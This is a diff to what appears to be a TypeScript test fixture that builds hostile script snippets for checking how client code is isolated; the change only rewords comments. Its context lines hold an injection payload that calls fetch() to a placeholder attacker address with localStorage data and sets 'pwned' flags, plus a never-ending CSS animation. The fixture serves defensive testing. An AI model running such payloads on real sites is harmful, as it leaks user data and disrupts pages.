@@ -1,4 +1,4 @@
-/** What a client's code may try. `evil` is an address that nobody may ever connect to, ending in a slash. */
+/** Attacks in a client's code. `evil` is an address that must never be contacted, ending in a slash. */
 export function hostileSnippets(evil: string): Record<string, string> {
   const steal = `fetch('${evil}?'+localStorage.length);top.pwned=1;parent.pwned=1;window.pwned=1;alert(1)`;
   const quoted = steal.replaceAll("'", '&apos;');
@@ -70,6 +70,6 @@ export function hostileSnippets(evil: string): Record<string, string> {
   };
 }
 
-/** CSS that never comes to rest. */
+/** An animation that never ends. */
 export const RESTLESS = `@keyframes turn { to { rotate: 1turn; inline-size: 1px } }
 * { animation: turn 50ms infinite }`;
